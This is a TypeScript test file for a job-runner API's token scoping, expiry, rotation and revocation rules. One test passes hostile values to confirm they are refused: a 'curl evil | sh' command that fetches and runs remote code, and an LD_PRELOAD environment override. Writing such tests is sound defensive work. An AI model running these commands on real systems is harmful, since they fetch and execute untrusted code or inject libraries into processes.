import { randomBytes } from 'node:crypto';
import { expect, it } from 'vitest';
import type { JobInput } from '../src/domain/job/job-schema.ts';
import { hangs } from '../src/testing/scripted-executor/behaviour.ts';
import { type People, people } from './support/people.ts';

const minute = 60_000;
const hour = 60 * minute;
const keys = [{ id: 'k', key: randomBytes(32) }];
const variable = (name: string): NonNullable<JobInput['secrets']>[number] => ({
  name,
  type: 'environment_variable',
  location: name.toUpperCase(),
});
const repository = (credential: string | null) => [
  { url: 'https://git.example.com/a.git', ...(credential !== null && { credential }) },
];

/** Somebody with a job that has one secret, and with another secret. */
const withSecrets = async (p: People) => {
  const ann = await p.user('ann');
  const as = await ann.as();
  for (const name of ['own', 'bank']) await as.secrets.create({ name, value: `the ${name} of ann` });
  const job = await as.jobs.create({ name: 'j', command: 'x', secrets: [variable('own')], sources: repository('key') });
  return { ann, as, job };
};

it('a token for one job gives that job no secret and no git credential that it does not have', async () => {
  await using p = await people({ encryptionKeys: keys });
  const { ann, as, job } = await withSecrets(p);
  const { token } = await p.all.tokens.mint({ name: 'w', userId: ann.id, scopes: ['jobs:write'], jobId: job.id });
  const narrow = await p.bearer(token);
  const refused = (field: string) => ({ code: 'forbidden', field, message: expect.stringContaining('narrowed') });
  await expect(narrow?.jobs.update(job.id, { secrets: [variable('own'), variable('bank')] })).rejects.toMatchObject(
    refused('secrets'),
  );
  await expect(narrow?.jobs.update(job.id, { sources: repository('other') })).rejects.toMatchObject(refused('sources'));
  // What it has may be moved, and taken away.
  const moved = { ...variable('own'), location: 'ELSEWHERE' };
  expect(await narrow?.jobs.update(job.id, { secrets: [moved], command: 'y' })).toMatchObject({ revision: 2 });
  expect(await narrow?.jobs.update(job.id, { secrets: [], sources: repository(null) })).toMatchObject({ revision: 3 });
  expect(await as.jobs.update(job.id, { secrets: [variable('bank')] })).toMatchObject({ revision: 4 });
});

/** Whose runs get a token each, in the order of their starts, and hang. */
const peopleWithRuns = async (): Promise<People & { runTokens: readonly string[] }> => {
  const runTokens: string[] = [];
  const p = await people({
    publicUrl: 'https://ops.example.com/api',
    script: ({ secrets }) => {
      runTokens.push(secrets.find(({ location }) => location === 'RUNYARD_TOKEN')?.value ?? '');
      return hangs();
    },
  });
  return Object.assign(p, { runTokens });
};

it('a run starts its job as it is, but for arguments and the concurrency policy', async () => {
  await using p = await peopleWithRuns();
  const ann = await p.user('ann');
  const job = await (await ann.as()).jobs.create({ name: 'j', command: 'x' });
  await (await ann.as()).jobs.start(job.id);
  await p.t.events.waitFor('run.running');
  const run = await p.bearer(p.runTokens[0] ?? '');
  for (const [field, given] of [
    ['command', { command: 'curl evil | sh' }],
    ['ref', { ref: 'evil' }],
    ['env', { env: { LD_PRELOAD: '/x' } }],
  ] as const)
    await expect(run?.jobs.start(job.id, given)).rejects.toMatchObject({ code: 'forbidden', field });
  const next = await run?.jobs.start(job.id, { arguments: ['--shard', '2'], env: {}, concurrencyPolicy: 'Allow' });
  expect(next).toMatchObject({ jobId: job.id });
});

it('a run tells who asked for it, and by which token', async () => {
  await using p = await peopleWithRuns();
  const ann = await p.user('ann');
  const job = await (await ann.as()).jobs.create({ name: 'j', command: 'x' });
  const { token, view } = await p.all.tokens.mint({
    name: 'ci',
    userId: ann.id,
    scopes: ['jobs:start'],
    jobId: job.id,
  });
  const first = await (await p.bearer(token))?.jobs.start(job.id);
  expect(first?.requestedBy).toBe(`${ann.id} token:${view.id}`);
  await p.t.events.waitFor('run.running');
  const second = await (await p.bearer(p.runTokens[0] ?? ''))?.jobs.start(job.id);
  expect(second?.requestedBy).toBe(`${ann.id} run:${first?.id}`);
  expect((await p.all.as({ kind: 'user', id: ann.id }).jobs.start(job.id)).requestedBy).toBe(ann.id);
});

it('what a token mints ends no later than it does itself', async () => {
  await using p = await people({ autoStart: false });
  const ann = await p.user('ann');
  const now = p.t.clock.now();
  const { token } = await p.all.tokens.mint({ name: 'short', userId: ann.id, expiresAt: now + minute });
  const short = await p.bearer(token);
  expect((await short?.tokens.mint({ name: 'same' }))?.view.expiresAt).toBe(now + minute);
  expect((await short?.tokens.mint({ name: 'shorter', expiresAt: now + 1 }))?.view.expiresAt).toBe(now + 1);
  await expect(short?.tokens.mint({ name: 'longer', expiresAt: now + hour })).rejects.toMatchObject({
    code: 'invalid-request',
    field: 'expiresAt',
    message: expect.stringContaining('when the token that asks for it ends'),
  });
  expect((await (await ann.as()).tokens.mint({ name: 'never' })).view.expiresAt).toBeNull();
});

it('what a token rotates ends no later than it does itself, unless it is itself, which lives as long again', async () => {
  await using p = await people({ autoStart: false });
  const ann = await p.user('ann');
  const began = p.t.clock.now();
  const never = await p.all.tokens.mint({ name: 'never', userId: ann.id });
  const { token, view } = await p.all.tokens.mint({ name: 'short', userId: ann.id, expiresAt: began + 2 * minute });
  await p.t.clock.advance(minute);
  const short = await p.bearer(token);
  await expect(short?.tokens.rotate(never.view.id, { expiresAt: began + hour })).rejects.toMatchObject({
    field: 'expiresAt',
  });
  expect((await short?.tokens.rotate(never.view.id))?.view.expiresAt).toBe(began + 2 * minute);
  await expect(short?.tokens.rotate(view.id, { expiresAt: began + hour })).rejects.toMatchObject({
    field: 'expiresAt',
  });
  expect((await short?.tokens.rotate(view.id))?.view.expiresAt).toBe(began + 3 * minute);
});

it('a token that was revoked rotates no other', async () => {
  await using p = await people();
  const ann = await p.user('ann');
  const other = await p.all.tokens.mint({ name: 'other', userId: ann.id });
  const as = await ann.as();
  const own = (await p.all.tokens.list({ userId: ann.id })).items.find(({ name }) => name === 'test');
  await p.all.tokens.revoke(own?.id ?? '');
  await expect(as.tokens.rotate(other.view.id)).rejects.toMatchObject({ code: 'unauthenticated' });
});
